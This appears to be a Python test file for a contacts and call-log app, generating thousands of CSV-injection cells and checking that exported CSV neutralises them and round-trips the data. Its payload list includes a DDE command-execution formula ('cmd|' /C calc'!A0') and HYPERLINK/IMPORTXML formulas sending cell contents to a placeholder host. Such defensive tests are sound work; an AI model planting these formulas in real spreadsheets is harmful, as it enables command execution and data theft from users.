# SPDX-License-Identifier: MIT
"""Five thousand cells somebody wrote for our users' spreadsheets: none is live, all come back."""

import csv
import io
import itertools
from dataclasses import replace

from busylamp.stores.calls_file import read_calls, write_calls
from busylamp.stores.contacts import Contact, ContactNumber
from busylamp.stores.entries import Entry, Note, Told
from busylamp.stores.exchange import read_file, write_csv
from busylamp.telephony.model import CallId, CallResult, Direction, ExtensionNumber

# What a spreadsheet takes for the beginning of a formula (OWASP, CSV injection), wide signs too.
LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BEFORE = ("", "'", "''", "'\"", '"', ",", ";", "|")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://a.example/?"&A1,"x")',
    "SUM(1;2)\n=1",
    "2,3;4\t5",
    'IMPORTXML(CONCAT("https://a.example",A1),"//a")\'',
    '"',
)
NUMBERS = (
    "+1-1",
    "-1+1",
    "=1+1",
    "@1",
    "\uff0b491",
    "'+1",
    "''=1",
    "+49 (0) 30/1",
    "*31#",
    "=1,1;1",
)
COUNT = 1000  # of people, five cells each


def cells() -> list[str]:
    return ["".join(parts) for parts in itertools.product(BEFORE, LIVE, BODIES)]


def people() -> list[Contact]:
    texts = itertools.cycle(text.strip() for text in cells())
    numbers = itertools.cycle(NUMBERS)
    return [
        Contact(
            name=next(texts),
            company=next(texts),
            email=next(texts),
            note=next(texts),
            numbers=(ContactNumber(number=next(numbers), label="work"),),
        )
        for _ in range(COUNT)
    ]


def live(exported: str) -> list[str]:
    rows = csv.reader(io.StringIO(exported, newline=""))
    return [cell for row in rows for cell in row if cell.startswith(LIVE)]


def test_contacts_come_back_and_none_is_a_formula() -> None:
    everyone = people()
    exported = write_csv(everyone)
    assert live(exported) == []
    preview = read_file("a.csv", exported.encode("utf-8-sig"))
    assert preview.refused == ()
    assert list(preview.contacts) == everyone


def test_calls_come_back_and_none_is_a_formula() -> None:
    texts = itertools.cycle(text.strip() for text in cells())
    entry = Entry(
        call_id=CallId("1.1@1000"),
        extension=ExtensionNumber("1000"),
        direction=Direction.INCOMING,
        internal=False,
        started_at=1_700_000_000.0,
        result=CallResult.MISSED,
    )
    calls = [
        Told(
            entry=replace(
                entry,
                number=next(texts),
                name=next(texts),
                peer_name=next(texts),
                via=next(texts),
            ),
            notes=(Note(written_at=1_700_000_000.0, text=next(texts)),),
        )
        for _ in range(COUNT)
    ]
    exported = write_calls(calls)
    assert live(exported) == []
    preview = read_calls(exported.encode("utf-8-sig"))
    assert preview.refused == ()
    assert [told.entry for told in preview.calls] == [told.entry for told in calls]
    assert [told.notes for told in preview.calls] == [told.notes for told in calls]


def test_the_count_would_see_a_formula() -> None:
    assert live('Name\r\n"=1+1"\r\n') == ["=1+1"]
    assert len(cells()) > 600
